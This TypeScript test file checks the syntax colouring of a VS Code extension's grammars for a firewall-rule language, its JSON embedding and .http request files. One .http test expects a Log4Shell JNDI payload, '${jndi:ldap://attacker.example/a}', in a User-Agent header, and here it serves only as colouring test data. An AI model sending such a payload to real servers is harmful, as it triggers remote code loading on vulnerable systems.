// Colourisation tests: the TextMate grammars tokenized by vscode-textmate with the
// oniguruma WASM build, which is what VS Code itself runs. Each case names a token by
// its text (and occurrence) in a fixture and gives its exact scope stack.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it, before } from 'node:test';
import * as oniguruma from 'vscode-oniguruma';
import * as vsctm from 'vscode-textmate';

const root = new URL('../../../', import.meta.url);
const read = (path: string) => readFileSync(new URL(path, root), 'utf8');

const grammarFiles: Record<string, string> = {
  'source.rulesmith': 'syntaxes/rulesmith.tmLanguage.json',
  'rulesmith.json.injection': 'syntaxes/rulesmith-json-injection.tmLanguage.json',
  'source.rulesmith.http': 'syntaxes/rulesmith-http.tmLanguage.json',
  // VS Code's JSON grammar is not installed here: a minimal one with the same scopes.
  'source.json': 'test/fixtures/syntaxes/json-minimal.tmLanguage.json',
};

interface Token {
  line: number;
  text: string;
  scopes: string[];
}

let registry: vsctm.Registry;

before(async () => {
  const wasm = readFileSync(new URL('node_modules/vscode-oniguruma/release/onig.wasm', root));
  await oniguruma.loadWASM(wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.byteLength) as ArrayBuffer);
  registry = new vsctm.Registry({
    onigLib: Promise.resolve({
      createOnigScanner: (sources: string[]) => new oniguruma.OnigScanner(sources),
      createOnigString: (s: string) => new oniguruma.OnigString(s),
    }),
    loadGrammar: async (scopeName: string) => {
      const file = grammarFiles[scopeName];
      return file ? vsctm.parseRawGrammar(read(file), file) : null;
    },
    // As package.json's `injectTo` asks VS Code to do.
    getInjections: (scopeName: string) => (scopeName === 'source.json' ? ['rulesmith.json.injection'] : undefined),
  });
});

async function tokenize(scopeName: string, text: string): Promise<Token[]> {
  const grammar = await registry.loadGrammar(scopeName);
  assert.ok(grammar, `grammar ${scopeName} loads`);
  const out: Token[] = [];
  let state = vsctm.INITIAL;
  text.split(/\r?\n/).forEach((lineText, line) => {
    const r = grammar.tokenizeLine(lineText, state);
    for (const t of r.tokens) out.push({ line, text: lineText.slice(t.startIndex, t.endIndex), scopes: t.scopes });
    state = r.ruleStack;
  });
  return out;
}

/** The scopes of the `nth` token whose text is exactly `text`. */
function scopesOf(tokens: Token[], text: string, nth = 0): string[] {
  const found = tokens.filter((t) => t.text === text);
  assert.ok(found.length > nth, `token ${JSON.stringify(text)} #${nth} not found; tokens: ${tokens.map((t) => JSON.stringify(t.text)).join(' ')}`);
  return found[nth].scopes;
}

type Case = [text: string, nth: number, scopes: string[]];

function check(tokens: Token[], cases: Case[], base: string[]) {
  for (const [text, nth, scopes] of cases) {
    assert.deepEqual(scopesOf(tokens, text, nth), [...base, ...scopes], `scopes of ${JSON.stringify(text)} #${nth}`);
  }
}

const S = 'source.rulesmith';
const str = 'string.quoted.double.rulesmith';
const re = 'string.regexp.rulesmith';
const raw = 'string.quoted.raw.rulesmith';
const field = 'variable.other.field.rulesmith';
const dot = 'punctuation.accessor.dot.rulesmith';
const set = 'meta.set.rulesmith';

describe('rulesmith.tmLanguage.json', () => {
  let tokens: Token[];
  before(async () => {
    tokens = await tokenize(S, read('test/fixtures/syntaxes/sample.cfrule'));
  });

  it('fields are variables with dotted segments', () => {
    check(tokens, [
      ['http', 0, [field]],
      ['.', 0, [field, dot]],
      ['request', 0, [field]],
      ['path', 0, [field]],
      ['asnum', 0, [field]],
    ], [S]);
  });

  it('English and C-like operators, logical keywords, strict wildcard', () => {
    check(tokens, [
      ['contains', 0, ['keyword.operator.contains.rulesmith']],
      ['and', 0, ['keyword.operator.logical.rulesmith']],
      ['not', 0, ['keyword.operator.logical.rulesmith']],
      ['in', 0, ['keyword.operator.in.rulesmith']],
      ['or', 0, ['keyword.operator.logical.rulesmith']],
      ['xor', 0, ['keyword.operator.logical.rulesmith']],
      ['ge', 0, ['keyword.operator.comparison.rulesmith']],
      ['!=', 0, ['keyword.operator.comparison.rulesmith']],
      ['&', 0, ['keyword.operator.bitwise.rulesmith']],
      ['matches', 0, ['keyword.operator.matches.rulesmith']],
      ['~', 0, ['keyword.operator.matches.rulesmith']],
    ], [S]);
    check(tokens, [
      ['&&', 0, ['keyword.operator.logical.rulesmith']],
      ['eq', 0, ['keyword.operator.comparison.rulesmith']],
    ], [S, 'meta.group.rulesmith']);
    check(tokens, [['strict wildcard', 0, ['keyword.operator.wildcard.strict.rulesmith']]], [S, 'meta.quantifier.rulesmith']);
  });

  it('function calls and quantifiers', () => {
    check(tokens, [
      ['lower', 0, ['meta.function-call.rulesmith', 'support.function.rulesmith']],
      ['(', 1, ['meta.function-call.rulesmith', 'punctuation.definition.arguments.begin.rulesmith']],
      ['host', 0, ['meta.function-call.rulesmith', field]],
    ], [S, 'meta.group.rulesmith']);
    check(tokens, [['any', 0, ['meta.quantifier.rulesmith', 'keyword.other.quantifier.rulesmith']]], [S]);
  });

  it('quoted strings with valid and invalid escapes', () => {
    const inGroup = [S, 'meta.group.rulesmith'];
    check(tokens, [
      ['"', 0, [str, 'punctuation.definition.string.begin.rulesmith']],
      ['/admin', 0, [str]],
      ['"', 1, [str, 'punctuation.definition.string.end.rulesmith']],
    ], [S]);
    check(tokens, [
      ['\\"', 0, [str, 'constant.character.escape.rulesmith']],
      ['\\\\', 0, [str, 'constant.character.escape.rulesmith']],
      ['\\x41', 0, [str, 'constant.character.escape.rulesmith']],
      ['\\101', 0, [str, 'constant.character.escape.rulesmith']],
      ['\\d', 0, [str, 'invalid.illegal.escape.rulesmith']],
      ['\\400', 0, [str, 'invalid.illegal.escape.rulesmith']],
    ], inGroup);
  });

  it('regex literals after matches and ~, raw strings with any number of #', () => {
    check(tokens, [
      ['^', 0, [re, 'keyword.control.anchor.regexp.rulesmith']],
      ['/wp-', 0, [re]],
      ['(', 2, [re, 'punctuation.definition.group.regexp.rulesmith']],
      ['|', 0, [re, 'keyword.operator.or.regexp.rulesmith']],
      // a quote inside a character class does not end the regex
      ['\\"', 1, [re, 'constant.other.character-class.set.regexp.rulesmith', 'constant.character.escape.regexp.rulesmith']],
      ['\\.', 0, [re, 'constant.character.escape.regexp.rulesmith']],
      ['r', 0, ['string.regexp.raw.rulesmith', 'storage.type.string.rulesmith']],
      ['bot"s', 0, ['string.regexp.raw.rulesmith']],
    ], [S]);
    // r##"a"#b*"## : the closing quote needs two #, so `"#` inside does not end it.
    check(tokens, [
      ['r', 1, [raw, 'storage.type.string.rulesmith']],
      ['##', 0, [raw, 'punctuation.definition.string.begin.rulesmith']],
      ['a"#b*', 0, [raw]],
      ['##', 1, [raw, 'punctuation.definition.string.end.rulesmith']],
    ], [S, 'meta.quantifier.rulesmith']);
  });

  it('numbers, IP addresses, CIDRs, ranges, hex bytes, lists, sets, indexes', () => {
    check(tokens, [
      ['{', 0, [set, 'punctuation.section.set.begin.rulesmith']],
      ['192.0.2.0/24', 0, [set, 'constant.numeric.ipv4.cidr.rulesmith']],
      ['2001:db8::/32', 0, [set, 'constant.numeric.ipv6.cidr.rulesmith']],
      ['198.51.100.7', 0, [set, 'constant.numeric.ipv4.rulesmith']],
      ['80', 0, [set, 'constant.numeric.integer.decimal.rulesmith']],
      ['8000', 0, [set, 'constant.numeric.integer.decimal.rulesmith']],
      ['..', 0, [set, 'keyword.operator.range.rulesmith']],
      ['0x1f', 0, ['constant.numeric.integer.hexadecimal.rulesmith']],
      ['02', 0, ['constant.numeric.integer.octal.rulesmith']],
      ['-010', 0, ['constant.numeric.integer.decimal.rulesmith']],
      ['6f:72:67', 0, ['constant.numeric.bytes.rulesmith']],
      ['$', 1, ['variable.other.list.rulesmith', 'punctuation.definition.variable.rulesmith']],
      ['known_asns', 0, ['variable.other.list.rulesmith']],
    ], [S]);
    check(tokens, [
      ['[', 1, ['meta.index.rulesmith', 'punctuation.section.index.begin.rulesmith']],
      ['x-api', 0, ['meta.index.rulesmith', str]],
      ['*', 0, ['meta.index.rulesmith', 'keyword.operator.map-each.rulesmith']],
    ], [S, 'meta.quantifier.rulesmith']);
  });

  it('a tab between tokens is invalid', async () => {
    const t = await tokenize(S, read('test/fixtures/syntaxes/tab.cfrule'));
    check(t, [['\t', 0, ['invalid.illegal.tab.rulesmith']], ['or', 0, ['keyword.operator.logical.rulesmith']]], [S]);
  });

  it('an expression may span lines, and words inside names are not keywords', async () => {
    const t = await tokenize(S, 'http.host in {"a"\n"b"} and\norigin.in eq 1 and not\n(ssl)');
    check(t, [['"', 2, [set, str, 'punctuation.definition.string.begin.rulesmith']], ['in', 1, [field]]], [S]);
    assert.deepEqual(scopesOf(t, 'ssl'), [S, 'meta.group.rulesmith', field]);
    assert.ok(!t.some((x) => x.scopes.some((s) => s.startsWith('invalid'))), 'no invalid tokens');
  });
});

describe('rulesmith-json-injection.tmLanguage.json', () => {
  const J = 'source.json';
  const dict = 'meta.structure.dictionary.json';
  const value = 'meta.structure.dictionary.value.json';
  const arr = 'meta.structure.array.json';
  const emb = 'meta.embedded.expression.rulesmith';
  const rule = [J, dict, value, arr, dict, value];
  let tokens: Token[];
  before(async () => {
    tokens = await tokenize(J, read('test/fixtures/syntaxes/zone.ruleset.json'));
  });

  it('colours the value of an "expression" property as a rule expression', () => {
    check(tokens, [
      ['http', 0, [emb, field]],
      ['.', 0, [emb, field, dot]],
      ['contains', 0, [emb, 'keyword.operator.contains.rulesmith']],
      ['192.0.2.0/24', 0, [emb, 'constant.numeric.ipv4.cidr.rulesmith']],
      ['matches', 0, [emb, 'keyword.operator.matches.rulesmith']],
      ['starts_with', 0, [emb, 'support.function.rulesmith']],
    ], rule);
  });

  it('handles the JSON escapes: \\" is a quote of the expression, \\n a line break', () => {
    check(tokens, [
      ['\\"', 0, [emb, str, 'punctuation.definition.string.begin.rulesmith']],
      ['/a', 0, [emb, str]],
      ['\\\\\\"', 0, [emb, str, 'constant.character.escape.rulesmith']],
      ['\\"', 1, [emb, str, 'punctuation.definition.string.end.rulesmith']],
      ['\\n', 0, [emb, 'constant.character.escape.json']],
      ['and', 1, [emb, 'keyword.operator.logical.rulesmith']],
      // the regex \\d (an escaped backslash, then d) is \\\\d in JSON
      ['\\\\\\\\', 0, [emb, re, 'constant.character.escape.regexp.rulesmith']],
      ['r', 0, [emb, raw, 'storage.type.string.rulesmith']],
      ['\\"', 5, [emb, raw, 'constant.character.escape.json']],
    ], rule);
  });

  it('the JSON string and the document around it stay JSON', () => {
    check(tokens, [
      ['expression', 1, ['string.json', 'support.type.property-name.json']],
      [',', 1, ['punctuation.separator.dictionary.pair.json']],
      ['block', 0, ['string.quoted.double.json']],
      ['true', 0, ['constant.language.json']],
    ], rule);
    // The description whose *value* is the word "expression" is not a key: not coloured.
    assert.deepEqual(scopesOf(tokens, 'expression', 0), [...rule, 'string.quoted.double.json']);
    assert.ok(!tokens.some((t) => t.scopes.some((s) => s.startsWith('invalid'))), 'no invalid tokens');
  });
});

describe('language-configuration.json', () => {
  const config = JSON.parse(read('syntaxes/language-configuration.json')) as {
    brackets: string[][];
    autoClosingPairs: { open: string; close: string }[];
    surroundingPairs: string[][];
    wordPattern: string;
  };

  it('brackets, auto-closing and surrounding pairs', () => {
    assert.deepEqual(config.brackets, [['(', ')'], ['[', ']'], ['{', '}']]);
    assert.deepEqual(config.autoClosingPairs.map((p) => p.open + p.close), ['()', '[]', '{}', '""']);
    assert.deepEqual(config.surroundingPairs.map((p) => p.join('')), ['()', '[]', '{}', '""']);
  });

  it('a word is a whole dotted field name (double-click selects http.request.uri.path)', () => {
    const words = (s: string) => [...s.matchAll(new RegExp(config.wordPattern, 'g'))].map((m) => m[0]);
    assert.deepEqual(words('http.request.uri.path contains "/admin" and not ip.src in $cf.open_proxies'), [
      'http.request.uri.path', 'contains', 'admin', 'and', 'not', 'ip.src', 'in', '$cf.open_proxies',
    ]);
    assert.deepEqual(words('lower(http.host)[0]'), ['lower', 'http.host', '0']);
  });
});

describe('package.json contributions', () => {
  it('point at these files', () => {
    const pkg = JSON.parse(read('package.json'));
    const grammars = pkg.contributes.grammars as { scopeName: string; path: string }[];
    for (const g of grammars) {
      const file = JSON.parse(read(g.path.replace(/^\.\//, '')));
      assert.equal(file.scopeName, g.scopeName, g.path);
    }
    assert.equal(pkg.contributes.languages[0].configuration, './syntaxes/language-configuration.json');
  });
});

describe('rulesmith-http.tmLanguage.json (.http files without REST Client)', () => {
  const H = 'source.rulesmith.http';
  const h = (s: string) => `${s}.rulesmith-http`;
  let tokens: Token[];
  before(async () => {
    tokens = await tokenize(H, read('test/fixtures/syntaxes/requests.http'));
  });

  it('separators, with the request name', () => {
    check(tokens, [
      ['###', 0, [h('meta.separator'), h('punctuation.separator.request')]],
      ['Log4Shell in a header', 0, [h('meta.separator'), h('entity.name.section.request')]],
      // A bare `###` after a body ends the request.
      ['###', 1, [h('meta.separator'), h('punctuation.separator.request')]],
    ], [H]);
  });

  it('`# @field value` and `// @name` metadata; plain comments', () => {
    check(tokens, [
      ['#', 0, [h('meta.metadata'), h('punctuation.definition.comment')]],
      ['@', 0, [h('meta.metadata'), h('punctuation.definition.annotation')]],
      ['ip.src', 0, [h('meta.metadata'), h('variable.other.field')]],
      ['203.0.113.9', 0, [h('meta.metadata'), h('string.unquoted.value')]],
      ['//', 0, [h('meta.metadata'), h('punctuation.definition.comment')]],
      ['name', 0, [h('meta.metadata'), h('variable.other.field')]],
      ['log4shell', 0, [h('meta.metadata'), h('string.unquoted.value')]],
      [' a plain comment', 0, [h('comment.line')]],
    ], [H]);
  });

  it('the request line: method, URL, version; a URL alone', () => {
    check(tokens, [
      ['GET', 0, [h('meta.request'), h('keyword.other.method')]],
      ['https://www.example.com/search?q=shoes', 0, [h('meta.request'), h('string.unquoted.uri')]],
      ['HTTP/1.1', 0, [h('meta.request'), h('constant.language.http-version')]],
      ['/health', 0, [h('meta.request'), h('string.unquoted.uri')]],
    ], [H]);
  });

  it('headers up to the empty line, then the body verbatim (a request line in it is not one)', () => {
    check(tokens, [
      ['User-Agent', 0, [h('meta.request'), h('meta.header'), h('support.type.property-name.header')]],
      [':', 0, [h('meta.request'), h('meta.header'), h('punctuation.separator.key-value')]],
      ['${jndi:ldap://attacker.example/a}', 0, [h('meta.request'), h('meta.header'), h('string.unquoted.header-value')]],
      ['Accept', 0, [h('meta.request'), h('meta.header'), h('support.type.property-name.header')]],
      ['text/html', 0, [h('meta.request'), h('meta.header'), h('string.unquoted.header-value')]],
      ['user=admin&x=GET /not-a-request', 0, [h('meta.request'), h('meta.body')]],
    ], [H]);
  });
});
